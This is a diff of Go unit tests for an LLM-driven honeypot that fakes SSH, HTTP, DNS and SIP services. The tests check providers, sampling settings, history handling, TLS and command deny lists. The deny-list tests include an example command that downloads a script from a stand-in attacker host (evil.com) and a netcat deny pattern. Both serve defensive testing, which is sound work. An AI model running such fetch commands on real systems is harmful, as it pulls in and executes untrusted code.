@@ -1,18 +1,33 @@
 package plugins
 
 import (
+	"context"
+	"encoding/json"
+	"encoding/pem"
 	"fmt"
 	"github.com/go-resty/resty/v2"
 	"github.com/jarcoal/httpmock"
+	"github.com/mariocandela/beelzebub/v3/plugins/llmtest"
 	"github.com/mariocandela/beelzebub/v3/tracer"
 	"github.com/stretchr/testify/assert"
+	"io"
 	"net/http"
+	"net/http/httptest"
 	"os"
+	"path/filepath"
+	"strings"
 	"testing"
+	"time"
 )
 
 const SystemPromptLen = 4
 
+func newJSONStringResponse(body string) *http.Response {
+	resp := httpmock.NewStringResponse(200, body)
+	resp.Header.Set("Content-Type", "application/json")
+	return resp
+}
+
 func TestBuildPromptEmptyHistory(t *testing.T) {
 	//Given
 	var histories []Message
@@ -480,6 +495,18 @@ func TestFromString(t *testing.T) {
 	assert.Nil(t, err)
 	assert.Equal(t, Gemini, model)
 
+	model, err = FromStringToLLMProvider("cohere")
+	assert.Nil(t, err)
+	assert.Equal(t, Cohere, model)
+
+	model, err = FromStringToLLMProvider("compatible")
+	assert.Nil(t, err)
+	assert.Equal(t, Compatible, model)
+
+	model, err = FromStringToLLMProvider("exec")
+	assert.Nil(t, err)
+	assert.Equal(t, Exec, model)
+
 	model, err = FromStringToLLMProvider("beelzebub-model")
 	assert.Error(t, err)
 }
@@ -574,3 +601,2480 @@ func TestRemoveQuotes(t *testing.T) {
 	assert.Equal(t, "top - 10:30:48 up 1 day,  4:30,  2 users,  load average: 0.15, 0.10, 0.08\nTasks: 198 total,   1 running, 197 sleeping,   0 stopped,   0 zombie\n", removeQuotes(complexText))
 	assert.Equal(t, "top - 15:06:59 up 10 days,  3:17,  1 user,  load average: 0.10, 0.09, 0.08\nTasks: 285 total\n", removeQuotes(complexText2))
 }
+
+func TestBuildExecuteModelJSONModeOpenAI(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterMatcherResponder("POST", openAIEndpoint,
+		httpmock.BodyContainsString(`"response_format":{"type":"json_object"}`),
+		func(req *http.Request) (*http.Response, error) {
+			resp, err := httpmock.NewJsonResponse(200, &Response{
+				Choices: []Choice{
+					{
+						Message: Message{
+							Role:    ASSISTANT.String(),
+							Content: "```json\n{\"users\":[{\"id\":1,\"name\":\"admin\"}]}\n```",
+						},
+					},
+				},
+			})
+			if err != nil {
+				return httpmock.NewStringResponse(500, ""), nil
+			}
+			return resp, nil
+		},
+	)
+
+	llmHoneypot := LLMHoneypot{
+		Histories: make([]Message, 0),
+		OpenAIKey: "sdjdnklfjndslkjanfk",
+		Protocol:  tracer.HTTP,
+		Model:     "gpt-4o",
+		Provider:  OpenAI,
+		JSONMode:  true,
+	}
+
+	openAIGPTVirtualTerminal := InitLLMHoneypot(llmHoneypot)
+	openAIGPTVirtualTerminal.client = client
+
+	//When
+	str, err := openAIGPTVirtualTerminal.ExecuteModel("GET /api/users")
+
+	//Then
+	assert.Nil(t, err)
+	assert.JSONEq(t, `{"users":[{"id":1,"name":"admin"}]}`, str)
+}
+
+func TestBuildExecuteModelJSONModeInvalidOutput(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterMatcherResponder("POST", ollamaEndpoint,
+		httpmock.BodyContainsString(`"format":"json"`),
+		func(req *http.Request) (*http.Response, error) {
+			resp, err := httpmock.NewJsonResponse(200, &Response{
+				Message: Message{
+					Role:    ASSISTANT.String(),
+					Content: "<html><body>Not Found</body></html>",
+				},
+			})
+			if err != nil {
+				return httpmock.NewStringResponse(500, ""), nil
+			}
+			return resp, nil
+		},
+	)
+
+	llmHoneypot := LLMHoneypot{
+		Histories: make([]Message, 0),
+		Protocol:  tracer.HTTP,
+		Model:     "llama3",
+		Provider:  Ollama,
+		JSONMode:  true,
+	}
+
+	ollamaVirtualServer := InitLLMHoneypot(llmHoneypot)
+	ollamaVirtualServer.client = client
+
+	//When
+	_, err := ollamaVirtualServer.ExecuteModel("GET /api/users")
+
+	//Then
+	assert.Equal(t, "model output is not valid JSON", err.Error())
+	assert.Empty(t, ollamaVirtualServer.Histories)
+}
+
+func TestInitLLMHoneypotTopK(t *testing.T) {
+	honeypot := InitLLMHoneypot(LLMHoneypot{Protocol: tracer.SSH})
+	assert.Equal(t, 40, honeypot.TopK)
+
+	os.Setenv("LLM_TOP_K", "12")
+	defer os.Unsetenv("LLM_TOP_K")
+
+	honeypot = InitLLMHoneypot(LLMHoneypot{Protocol: tracer.SSH})
+	assert.Equal(t, 12, honeypot.TopK)
+}
+
+func TestBuildExecuteModelTopKGeminiAndOllama(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	modelName := "gemini-1.0-pro"
+	httpmock.RegisterMatcherResponder("POST", fmt.Sprintf(geminiEndpoint, modelName),
+		httpmock.BodyContainsString(`"topK":7`),
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"candidates":[{"content":{"parts":[{"text":"gemini"}]}}]}`), nil
+		},
+	)
+	httpmock.RegisterMatcherResponder("POST", ollamaEndpoint,
+		httpmock.BodyContainsString(`"top_k":7`),
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"ollama"}}`), nil
+		},
+	)
+
+	gemini := InitLLMHoneypot(LLMHoneypot{
+		GoogleAPIKey: "dummy-gemini-key",
+		Protocol:     tracer.SSH,
+		Model:        modelName,
+		Provider:     Gemini,
+		TopK:         7,
+	})
+	gemini.client = client
+	ollama := InitLLMHoneypot(LLMHoneypot{
+		Protocol: tracer.SSH,
+		Model:    "llama3",
+		Provider: Ollama,
+		TopK:     7,
+	})
+	ollama.client = client
+
+	//When
+	geminiOutput, geminiErr := gemini.ExecuteModel("ls")
+	ollamaOutput, ollamaErr := ollama.ExecuteModel("ls")
+
+	//Then
+	assert.Nil(t, geminiErr)
+	assert.Equal(t, "gemini", geminiOutput)
+	assert.Nil(t, ollamaErr)
+	assert.Equal(t, "ollama", ollamaOutput)
+}
+
+func TestIsCommandDenied(t *testing.T) {
+	honeypot := LLMHoneypot{
+		DenyCommands: []string{"find", "cat /proc/1/cgroup"},
+		DenyPatterns: []string{`(?i)honeypot`},
+	}
+
+	denied, err := honeypot.isCommandDenied("find / -name '*.conf'")
+	assert.Nil(t, err)
+	assert.True(t, denied)
+
+	denied, err = honeypot.isCommandDenied("cat /proc/1/cgroup")
+	assert.Nil(t, err)
+	assert.True(t, denied)
+
+	denied, err = honeypot.isCommandDenied("grep -r HoneyPot /etc")
+	assert.Nil(t, err)
+	assert.True(t, denied)
+
+	denied, err = honeypot.isCommandDenied("ls -la")
+	assert.Nil(t, err)
+	assert.False(t, denied)
+
+	honeypot = LLMHoneypot{AllowCommands: []string{"ls", "pwd"}}
+
+	denied, err = honeypot.isCommandDenied("ls -la")
+	assert.Nil(t, err)
+	assert.False(t, denied)
+
+	denied, err = honeypot.isCommandDenied("wget http://evil.com/x.sh")
+	assert.Nil(t, err)
+	assert.True(t, denied)
+
+	honeypot = LLMHoneypot{DenyPatterns: []string{"("}}
+
+	_, err = honeypot.isCommandDenied("ls")
+	assert.Error(t, err)
+}
+
+func TestCompileDenyPatternIsCached(t *testing.T) {
+	//When
+	first, err := compileDenyPattern(`^nc\s`)
+	second, _ := compileDenyPattern(`^nc\s`)
+
+	//Then
+	assert.Nil(t, err)
+	assert.Same(t, first, second)
+}
+
+func TestBuildExecuteModelDeniedCommand(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	llmHoneypot := LLMHoneypot{
+		Histories:    make([]Message, 0),
+		OpenAIKey:    "sdjdnklfjndslkjanfk",
+		Protocol:     tracer.SSH,
+		Model:        "gpt-4o",
+		Provider:     OpenAI,
+		DenyCommands: []string{"find"},
+	}
+
+	openAIGPTVirtualTerminal := InitLLMHoneypot(llmHoneypot)
+	openAIGPTVirtualTerminal.client = client
+
+	//When
+	str, err := openAIGPTVirtualTerminal.ExecuteModel("find /")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "command not found", str)
+	assert.Equal(t, 0, httpmock.GetTotalCallCount())
+
+	//When
+	openAIGPTVirtualTerminal.DeniedResponse = "find: Permission denied"
+	str, err = openAIGPTVirtualTerminal.ExecuteModel("find /")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "find: Permission denied", str)
+}
+
+func TestBuildPromptDNS(t *testing.T) {
+	//Given
+	honeypot := LLMHoneypot{
+		Histories: make([]Message, 0),
+		Protocol:  tracer.DNS,
+	}
+
+	//When
+	prompt, err := honeypot.buildPrompt("corp.example.com MX")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, SystemPromptLen, len(prompt))
+	assert.Equal(t, systemPromptVirtualizeDNSServer, prompt[0].Content)
+	assert.Equal(t, "example.com A", prompt[1].Content)
+	assert.Contains(t, prompt[2].Content, "93.184.216.34")
+	assert.Equal(t, "corp.example.com MX", prompt[3].Content)
+}
+
+func TestBuildExecuteModelFailValidationCohere(t *testing.T) {
+	llmHoneypot := LLMHoneypot{
+		Histories: make([]Message, 0),
+		Protocol:  tracer.SSH,
+		Model:     "command-r",
+		Provider:  Cohere,
+	}
+
+	cohereVirtualTerminal := InitLLMHoneypot(llmHoneypot)
+
+	_, err := cohereVirtualTerminal.ExecuteModel("test")
+
+	assert.Equal(t, "cohereKey is empty", err.Error())
+}
+
+func TestBuildExecuteModelSSHWithResultsCohere(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	var cohereRequest CohereRequest
+	httpmock.RegisterResponder("POST", cohereEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			if err := json.NewDecoder(req.Body).Decode(&cohereRequest); err != nil {
+				return httpmock.NewStringResponse(400, ""), nil
+			}
+			return httpmock.NewJsonResponse(200, &CohereResponse{Text: "prova.txt"})
+		},
+	)
+
+	llmHoneypot := LLMHoneypot{
+		Histories: make([]Message, 0),
+		CohereKey: "sdjdnklfjndslkjanfk",
+		Protocol:  tracer.SSH,
+		Model:     "command-r",
+		Provider:  Cohere,
+	}
+
+	cohereVirtualTerminal := InitLLMHoneypot(llmHoneypot)
+	cohereVirtualTerminal.client = client
+
+	//When
+	str, err := cohereVirtualTerminal.ExecuteModel("ls")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "prova.txt", str)
+	assert.Equal(t, systemPromptVirtualizeLinuxTerminal, cohereRequest.Preamble)
+	assert.Equal(t, "ls", cohereRequest.Message)
+	assert.Equal(t, []CohereMessage{
+		{Role: "USER", Message: "pwd"},
+		{Role: "CHATBOT", Message: "/home/user"},
+	}, cohereRequest.ChatHistory)
+}
+
+func TestInitLLMHoneypotDefaultStopSequences(t *testing.T) {
+	ssh := InitLLMHoneypot(LLMHoneypot{Protocol: tracer.SSH})
+	assert.Equal(t, defaultSSHStopSequences, ssh.StopSequences)
+
+	httpHoneypot := InitLLMHoneypot(LLMHoneypot{Protocol: tracer.HTTP})
+	assert.Nil(t, httpHoneypot.StopSequences)
+
+	custom := InitLLMHoneypot(LLMHoneypot{Protocol: tracer.SSH, StopSequences: []string{"$ "}})
+	assert.Equal(t, []string{"$ "}, custom.StopSequences)
+}
+
+func TestBuildExecuteModelStopSequences(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	modelName := "gemini-1.0-pro"
+	httpmock.RegisterMatcherResponder("POST", openAIEndpoint,
+		httpmock.BodyContainsString(`"stop":["\nuser@","\nroot@"]`),
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"choices":[{"message":{"role":"assistant","content":"openai"}}]}`), nil
+		},
+	)
+	httpmock.RegisterMatcherResponder("POST", ollamaEndpoint,
+		httpmock.BodyContainsString(`"stop":["\nuser@","\nroot@"]`),
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"ollama"}}`), nil
+		},
+	)
+	httpmock.RegisterMatcherResponder("POST", fmt.Sprintf(geminiEndpoint, modelName),
+		httpmock.BodyContainsString(`"stopSequences":["\nuser@","\nroot@"]`),
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"candidates":[{"content":{"parts":[{"text":"gemini"}]}}]}`), nil
+		},
+	)
+
+	for provider, expected := range map[LLMProvider]string{OpenAI: "openai", Ollama: "ollama", Gemini: "gemini"} {
+		honeypot := InitLLMHoneypot(LLMHoneypot{
+			OpenAIKey:    "sdjdnklfjndslkjanfk",
+			GoogleAPIKey: "dummy-gemini-key",
+			Protocol:     tracer.SSH,
+			Model:        modelName,
+			Provider:     provider,
+		})
+		honeypot.client = client
+
+		//When
+		str, err := honeypot.ExecuteModel("ls")
+
+		//Then
+		assert.Nil(t, err)
+		assert.Equal(t, expected, str)
+	}
+}
+
+func TestBuildPromptSIP(t *testing.T) {
+	//Given
+	honeypot := LLMHoneypot{
+		Histories: make([]Message, 0),
+		Protocol:  tracer.SIP,
+	}
+
+	//When
+	prompt, err := honeypot.buildPrompt("OPTIONS sip:100@pbx.local SIP/2.0")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, SystemPromptLen, len(prompt))
+	assert.Equal(t, systemPromptVirtualizeSIPServer, prompt[0].Content)
+	assert.Contains(t, prompt[1].Content, "CSeq: 1 REGISTER")
+	assert.Contains(t, prompt[2].Content, "SIP/2.0 401 Unauthorized")
+	assert.Contains(t, prompt[2].Content, "WWW-Authenticate: Digest")
+}
+
+func TestBuildPromptStateless(t *testing.T) {
+	//Given
+	honeypot := LLMHoneypot{
+		Histories: []Message{
+			{Role: USER.String(), Content: "GET /admin"},
+			{Role: ASSISTANT.String(), Content: "403 Forbidden"},
+		},
+		Protocol:  tracer.HTTP,
+		Stateless: true,
+	}
+
+	//When
+	prompt, err := honeypot.buildPrompt("GET /")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, SystemPromptLen, len(prompt))
+}
+
+func TestBuildExecuteModelStatelessSkipsHistory(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"<html></html>"}}`), nil
+		},
+	)
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Histories: make([]Message, 0),
+		Protocol:  tracer.HTTP,
+		Model:     "llama3",
+		Provider:  Ollama,
+		Stateless: true,
+	})
+	honeypot.client = client
+
+	//When
+	_, err := honeypot.ExecuteModel("GET /")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Empty(t, honeypot.Histories)
+}
+
+func TestLatencyProfileDelay(t *testing.T) {
+	profile := LatencyProfile{Min: 100 * time.Millisecond, Max: 300 * time.Millisecond}
+
+	for i := 0; i < 50; i++ {
+		d := profile.delay(0)
+		assert.GreaterOrEqual(t, d, 100*time.Millisecond)
+		assert.Less(t, d, 300*time.Millisecond)
+	}
+
+	assert.Equal(t, time.Duration(0), profile.delay(time.Second))
+	assert.Equal(t, 40*time.Millisecond, LatencyProfile{Min: 50 * time.Millisecond}.delay(10*time.Millisecond))
+}
+
+func TestBuildExecuteModelLatency(t *testing.T) {
+	var slept time.Duration
+	sleep = func(d time.Duration) { slept += d }
+	defer func() { sleep = time.Sleep }()
+
+	// Given
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:     tracer.SSH,
+		DenyCommands: []string{"find"},
+		Latency:      &LatencyProfile{Min: time.Minute, Max: time.Minute},
+	})
+
+	//When
+	str, err := honeypot.ExecuteModel("find /")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "command not found", str)
+	assert.InDelta(t, float64(time.Minute), float64(slept), float64(time.Second))
+}
+
+func TestBuildExecuteModelSummarizeHistory(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterMatcherResponder("POST", ollamaEndpoint,
+		httpmock.BodyContainsString(`"model":"llama3.2:1b"`),
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"cwd is /tmp, file a.sh was created"}}`), nil
+		},
+	)
+	httpmock.RegisterMatcherResponder("POST", ollamaEndpoint,
+		httpmock.BodyContainsString("cwd is /tmp, file a.sh was created"),
+		func(req *http.Request) (*http.Response, error) {
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"a.sh"}}`), nil
+		},
+	)
+
+	var histories []Message
+	for i := 0; i < 6; i++ {
+		histories = append(histories,
+			Message{Role: USER.String(), Content: fmt.Sprintf("cmd %d", i)},
+			Message{Role: ASSISTANT.String(), Content: fmt.Sprintf("out %d", i)},
+		)
+	}
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Histories:          histories,
+		Protocol:           tracer.SSH,
+		Model:              "llama3",
+		Provider:           Ollama,
+		SummarizeHistory:   true,
+		SummarizeThreshold: 4,
+		SummaryModel:       "llama3.2:1b",
+	})
+	honeypot.client = client
+
+	//When
+	str, err := honeypot.ExecuteModel("ls")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "a.sh", str)
+	assert.Equal(t, "cwd is /tmp, file a.sh was created", honeypot.HistorySummary)
+	assert.Equal(t, []Message{
+		{Role: USER.String(), Content: "cmd 5"},
+		{Role: ASSISTANT.String(), Content: "out 5"},
+		{Role: ASSISTANT.String(), Content: "a.sh"},
+	}, honeypot.Histories)
+}
+
+func TestBuildPromptWithHistorySummary(t *testing.T) {
+	//Given
+	honeypot := LLMHoneypot{
+		Protocol:       tracer.SSH,
+		HistorySummary: "user created /tmp/x",
+	}
+
+	//When
+	prompt, err := honeypot.buildPrompt("ls /tmp")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, SystemPromptLen+1, len(prompt))
+	assert.Equal(t, SYSTEM.String(), prompt[3].Role)
+	assert.Contains(t, prompt[3].Content, "user created /tmp/x")
+}
+
+func TestTLSConfig(t *testing.T) {
+	tlsConfig, err := (&LLMHoneypot{}).tlsConfig()
+	assert.Nil(t, err)
+	assert.Nil(t, tlsConfig)
+
+	tlsConfig, err = (&LLMHoneypot{InsecureSkipVerify: true}).tlsConfig()
+	assert.Nil(t, err)
+	assert.True(t, tlsConfig.InsecureSkipVerify)
+
+	_, err = (&LLMHoneypot{TLSClientCert: "missing.crt", TLSClientKey: "missing.key"}).tlsConfig()
+	assert.Error(t, err)
+
+	caPath := filepath.Join(t.TempDir(), "ca.pem")
+	os.WriteFile(caPath, []byte("not a certificate"), 0600)
+	_, err = (&LLMHoneypot{TLSCACert: caPath}).tlsConfig()
+	assert.Equal(t, fmt.Sprintf("no certificates found in %s", caPath), err.Error())
+}
+
+func TestBuildExecuteModelWithCustomCA(t *testing.T) {
+	// Given
+	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		w.Write([]byte(`{"message":{"role":"assistant","content":"prova.txt"}}`))
+	}))
+	defer server.Close()
+
+	caPath := filepath.Join(t.TempDir(), "ca.pem")
+	caPEM := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw})
+	assert.Nil(t, os.WriteFile(caPath, caPEM, 0600))
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol:  tracer.SSH,
+		Model:     "llama3",
+		Provider:  Ollama,
+		Host:      server.URL,
+		TLSCACert: caPath,
+	})
+
+	//When
+	str, err := honeypot.ExecuteModel("ls")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "prova.txt", str)
+}
+
+func TestBuildExecuteModelSeed(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	var bodies []string
+	httpmock.RegisterResponder("POST", openAIEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			body, _ := io.ReadAll(req.Body)
+			bodies = append(bodies, string(body))
+			return newJSONStringResponse(`{"choices":[{"message":{"role":"assistant","content":"openai"}}]}`), nil
+		},
+	)
+	httpmock.RegisterResponder("POST", ollamaEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			body, _ := io.ReadAll(req.Body)
+			bodies = append(bodies, string(body))
+			return newJSONStringResponse(`{"message":{"role":"assistant","content":"ollama"}}`), nil
+		},
+	)
+
+	seed := 42
+	for _, honeypot := range []*LLMHoneypot{
+		InitLLMHoneypot(LLMHoneypot{OpenAIKey: "sdjdnklfjndslkjanfk", Protocol: tracer.SSH, Model: "gpt-4o", Provider: OpenAI, Seed: &seed}),
+		InitLLMHoneypot(LLMHoneypot{Protocol: tracer.SSH, Model: "llama3", Provider: Ollama, Seed: &seed}),
+		InitLLMHoneypot(LLMHoneypot{OpenAIKey: "sdjdnklfjndslkjanfk", Protocol: tracer.SSH, Model: "gpt-4o", Provider: OpenAI}),
+	} {
+		honeypot.client = client
+
+		//When
+		_, err := honeypot.ExecuteModel("ls")
+
+		//Then
+		assert.Nil(t, err)
+	}
+
+	assert.Contains(t, bodies[0], `"seed":42`)
+	assert.Contains(t, bodies[1], `"options":{`)
+	assert.Contains(t, bodies[1], `"seed":42`)
+	assert.NotContains(t, bodies[2], `"seed"`)
+}
+
+func TestBuildExecuteModelCompatibleProvider(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", "https://openrouter.ai/api/v1/chat/completions",
+		func(req *http.Request) (*http.Response, error) {
+			if req.Header.Get("Authorization") != "Bearer or-key" {
+				return httpmock.NewStringResponse(401, ""), nil
+			}
+			return newJSONStringResponse(`{"choices":[{"message":{"role":"assistant","content":"bearer"}}]}`), nil
+		},
+	)
+	httpmock.RegisterResponder("POST", "http://localai:8080/v1/chat/completions",
+		func(req *http.Request) (*http.Response, error) {
+			if req.Header.Get("X-Api-Key") != "local-key" || req.Header.Get("Authorization") != "" {
+				return httpmock.NewStringResponse(401, ""), nil
+			}
+			return newJSONStringResponse(`{"choices":[{"message":{"role":"assistant","content":"header"}}]}`), nil
+		},
+	)
+
+	bearer := InitLLMHoneypot(LLMHoneypot{
+		Protocol:          tracer.SSH,
+		Model:             "meta-llama/llama-3-70b-instruct",
+		Provider:          Compatible,
+		CompatibleBaseURL: "https://openrouter.ai/api/v1/",
+		CompatibleKey:     "or-key",
+	})
+	bearer.client = client
+	header := InitLLMHoneypot(LLMHoneypot{
+		Protocol:             tracer.SSH,
+		Model:                "llama3",
+		Provider:             Compatible,
+		CompatibleBaseURL:    "http://localai:8080/v1/chat/completions",
+		CompatibleKey:        "local-key",
+		CompatibleAuthHeader: "X-Api-Key",
+	})
+	header.client = client
+
+	//When
+	bearerOutput, bearerErr := bearer.ExecuteModel("ls")
+	headerOutput, headerErr := header.ExecuteModel("ls")
+
+	//Then
+	assert.Nil(t, bearerErr)
+	assert.Equal(t, "bearer", bearerOutput)
+	assert.Nil(t, headerErr)
+	assert.Equal(t, "header", headerOutput)
+}
+
+func TestBuildExecuteModelFailValidationCompatible(t *testing.T) {
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		Protocol: tracer.SSH,
+		Model:    "llama3",
+		Provider: Compatible,
+	})
+
+	_, err := honeypot.ExecuteModel("ls")
+
+	assert.Equal(t, "compatibleBaseURL is empty", err.Error())
+}
+
+func TestSanitizeHTTPResponse(t *testing.T) {
+	html := "<html><body>Hello, World!</body></html>"
+	status := "HTTP/1.1 200 OK\nServer: nginx\n\n<html></html>"
+	jsonBody := `{"status":"ok"}`
+
+	assert.Equal(t, html, sanitizeHTTPResponse("Here is the response:\n"+html))
+	assert.Equal(t, html, sanitizeHTTPResponse("Sure! Here's the HTTP response:\n\n"+html))
+	assert.Equal(t, status, sanitizeHTTPResponse("Certainly, here is the simulated server response:\n"+status))
+	assert.Equal(t, jsonBody, sanitizeHTTPResponse("Sure, here you go:\n"+jsonBody))
+	assert.Equal(t, html, sanitizeHTTPResponse("Here is the page the server would send:\n(simulated)\n"+html))
+	assert.Equal(t, "Page not found: /admin\n"+html, sanitizeHTTPResponse("Page not found: /admin\n"+html))
+	assert.Equal(t, "Output: 42 rows", sanitizeHTTPResponse("Output: 42 rows"))
+	assert.Equal(t, "Here is what we offer: hosting\n"+html, sanitizeHTTPResponse("Here is what we offer: hosting\n"+html))
+	assert.Equal(t, "welcome\n[section]\nkey = value", sanitizeHTTPResponse("welcome\n[section]\nkey = value"))
+	assert.Equal(t, html, sanitizeHTTPResponse(html))
+	assert.Equal(t, "[default]\nregion = us-west-2", sanitizeHTTPResponse("[default]\nregion = us-west-2"))
+}
+
+func TestBuildExecuteModelHTTPStripsPreamble(t *testing.T) {
+	client := resty.New()
+	httpmock.ActivateNonDefault(client.GetClient())
+	defer httpmock.DeactivateAndReset()
+
+	// Given
+	httpmock.RegisterResponder("POST", openAIEndpoint,
+		func(req *http.Request) (*http.Response, error) {
+			return httpmock.NewJsonResponse(200, &Response{
+				Choices: []Choice{
+					{
+						Message: Message{
+							Role:    ASSISTANT.String(),
+							Content: "Here is the response:\n```html\n<html><body>admin panel</body></html>\n```",
+						},
+					},
+				},
+			})
+		},
+	)
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{
+		OpenAIKey: "sdjdnklfjndslkjanfk",
+		Protocol:  tracer.HTTP,
+		Model:     "gpt-4o",
+		Provider:  OpenAI,
+	})
+	honeypot.client = client
+
+	//When
+	str, err := honeypot.ExecuteModel("GET /admin")
+
+	//Then
+	assert.Nil(t, err)
+	assert.Equal(t, "<html><body>admin panel</body></html>\n", str)
+}
+
+func TestNewLLMHoneypotWithOptions(t *testing.T) {
+	os.Setenv("LLM_MODEL", "from-env")
+	defer os.Unsetenv("LLM_MODEL")
+
+	//When
+	honeypot := NewLLMHoneypot(
+		WithProvider(Gemini),
+		WithModel("gemini-1.5-flash"),
+		WithProtocol(tracer.SSH),
+		WithGoogleAPIKey("key"),
+		WithTimeout(5*time.Second),
+	)
+
+	//Then
+	assert.Equal(t, Gemini, honeypot.Provider)
+	assert.Equal(t, "gemini-1.5-flash", honeypot.Model)
+	assert.Equal(t, "key", honeypot.GoogleAPIKey)
+	assert.Equal(t, 5*time.Second, honeypot.client.GetClient().Timeout)
+	assert.Equal(t, float32(0.2), honeypot.Temperature)
+	assert.Equal(t, defaultSSHStopSequences, honeypot.StopSequences)
+
+	//When
+	honeypot = NewLLMHoneypot(WithModel("gemini-1.5-flash"), WithEnvOverrides(true))
+
+	//Then
+	assert.Equal(t, "from-env", honeypot.Model)
+}
+
+func TestInitLLMHoneypotUsesEnvOverrides(t *testing.T) {
+	os.Setenv("LLM_MODEL", "from-env")
+	defer os.Unsetenv("LLM_MODEL")
+
+	honeypot := InitLLMHoneypot(LLMHoneypot{Model: "gpt-4o", Provider: OpenAI})
+
+	assert.Equal(t, "from-env", honeypot.Model)
+	assert.Equal(t, OpenAI, honeypot.Provider)
+}
+
+func TestInitLLMHoneypotEnvPolicy(t *testing.T) {
+	os.Setenv("LLM_MODEL", "from-env")
+	os.Setenv("OPEN_AI_SECRET_KEY", "env-key")
+	os.Setenv("LLM_TEMPERATURE", "0.9")
+	defer os.Unsetenv("LLM_MODEL")
+	defer os.Unsetenv("OPEN_AI_SECRET_KEY")
+	defer os.Unsetenv("LLM_TEMPERATURE")
+
+	config := LLMHoneypot{Model: "gpt-4o", Provider: OpenAI, Temperature: 0.5}
+
+	//When
+	override := InitLLMHoneypot(config)
+	config.EnvPolicy = EnvFillEmpty
+	fillEmpty := InitLLMHoneypot(config)
+	config.EnvPolicy = EnvIgnore
+	ignore := InitLLMHoneypot(config)
+
+	//Then
+	assert.Equal(t, "from-env", override.Model)
+	assert.Equal(t, "env-key", override.OpenAIKey)
+	assert.Equal(t, float32(0.9), override.Temperature)
+
+	assert.Equal(t, "gpt-4o", fillEmpty.Model)
+	assert.Equal(t, "env-key", fillEmpty.OpenAIKey)
+	assert.Equal(t, float32(0.5), fillEmpty.Temperature)
+
+	assert.Equal(t, "gpt-4o", ignore.Model)
+	assert.Equal(t, "", ignore.OpenAIKey)
+	assert.Equal(t, float32(0.5), ignore.Temperature)
+}
+
+func TestInitLLMHoneypotSamplingEnv(t *testing.T) {
+	os.Setenv("LLM_TEMPERATURE", "0")
+	os.Setenv("LLM_TOP_P", "1,5")
+	os.Setenv("LLM_TOP_K", "abc")
+	defer os.Unsetenv("LLM_TEMPERATURE")
+	defer os.Unsetenv("LLM_TOP_P")
+	defer os.Unsetenv("LLM_TOP_K")
+
+	//When
+	fromEnv := InitLLMHoneypot(LLMHoneypot{Model: "gpt-4o", Provider: OpenAI})
+	clamped := NewLLMHoneypot(WithConfig(LLMHoneypot{Temperature: 3.5, TopP: ExplicitZero}))
+	negative := NewLLMHoneypot(WithConfig(LLMHoneypot{Temperature: -0.5}))
+
+	//Then
+	assert.Equal(t, float32(0), fromEnv.Temperature)
+	assert.Equal(t, float32(1), fromEnv.TopP)
+	assert.Equal(t, 40, fromEnv.TopK)
+	assert.Equal(t, float32(2), clamped.Temperature)
+	assert.Equal(t, float32(0), clamped.TopP)
+	assert.Equal(t, float32(0), negative.Temperature)
+}
+
